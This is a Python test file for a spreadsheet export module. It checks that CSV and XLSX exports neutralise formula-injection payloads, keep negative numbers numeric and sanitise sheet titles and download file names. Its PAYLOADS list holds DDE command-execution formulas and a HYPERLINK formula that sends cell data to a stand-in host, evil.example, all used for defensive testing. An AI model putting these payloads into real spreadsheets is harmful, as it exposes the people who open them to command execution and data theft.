"""Safe exports: no formula payload reaches a spreadsheet live, negative numbers stay numbers,
any sheet title or file name works (OWASP CSV injection; RFC 6266/5987)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from saima.core.exports import Table, attachment_response, table_csv, table_response, table_xlsx
from saima.core.tabular.writing import neutralise, result_cell, sheet_title

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _table(rows):
    return Table("异议", ["理由", "数值"], rows)


def test_every_payload_comes_out_of_a_csv_as_inert_text():
    rows = [[payload, -1.5] for payload in PAYLOADS]
    text = table_csv(_table(rows)).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0] for r in read] == ["'" + p for p in PAYLOADS]
    assert {r[1] for r in read} == {"-1.5"}


def test_every_payload_comes_out_of_an_xlsx_as_a_string_cell_never_a_formula():
    rows = [[payload, -1.5] for payload in PAYLOADS]
    content = table_xlsx(_table(rows))
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    body = list(sheet.iter_rows(min_row=2))
    assert [row[0].data_type for row in body] == ["s"] * len(PAYLOADS)
    assert [row[0].value for row in body] == ["'" + p for p in PAYLOADS]
    assert [row[1].value for row in body] == [-1.5] * len(PAYLOADS)


@pytest.mark.parametrize("text", ["-12.5", "-1e-05", "+3", "plain", "中文", ""])
def test_numbers_and_ordinary_text_are_left_alone(text):
    assert neutralise(text) == text


def test_numbers_stay_numbers_in_both_formats():
    table = _table([["a", -3], ["b", -0.25]])
    assert table_csv(table).decode("utf-8-sig").splitlines()[1:] == ["a,-3", "b,-0.25"]
    sheet = load_workbook(io.BytesIO(table_xlsx(table))).active
    assert [c.value for c in sheet["B"]][1:] == [-3, -0.25]


@pytest.mark.parametrize(
    "title", ["松阳县[试点]", "杭州/宁波", "a:b*c?d\\e", "'引号'", "", "x" * 40]
)
def test_any_sheet_title_makes_a_valid_workbook(title):
    content = table_xlsx(Table(title, ["a"], [[1]]))
    assert load_workbook(io.BytesIO(content)).sheetnames == [sheet_title(title)]


def test_sheet_titles_are_cleaned_and_shortened():
    assert sheet_title("松阳县[试点]") == "松阳县_试点_"
    assert sheet_title("杭州/宁波") == "杭州_宁波"
    assert len(sheet_title("x" * 40)) == 31 and sheet_title("") == "Sheet1"


def test_a_chinese_file_name_with_reserved_characters_is_sent_as_filename_star():
    response = table_response(_table([]), "xlsx", "松阳县[试点]/第1期")
    header = response["Content-Disposition"]
    assert header.startswith("attachment; filename*=utf-8''")
    assert "%2F" not in header and "/" not in header.split("''", 1)[1]
    ascii_name = attachment_response(b"x", "text/csv", 'a"b\r\n.csv')["Content-Disposition"]
    assert ascii_name == 'attachment; filename="a_b__.csv"'


def test_result_cells_are_formatted_one_way():
    assert [result_cell(v) for v in (None, True, False, 0.1, 3, "x")] == [
        "",
        "true",
        "false",
        "0.1",
        "3",
        "x",
    ]


def test_times_are_written_in_the_site_time_zone_to_the_second():
    import datetime as dt

    from saima.core.exports import plain

    moment = dt.datetime(2026, 12, 2, 11, 4, 5, 123456, tzinfo=dt.UTC)
    assert plain(moment) == "2026-12-02 19:04:05"  # Asia/Shanghai, no microseconds
    assert plain(dt.date(2026, 12, 2)) == "2026-12-02"
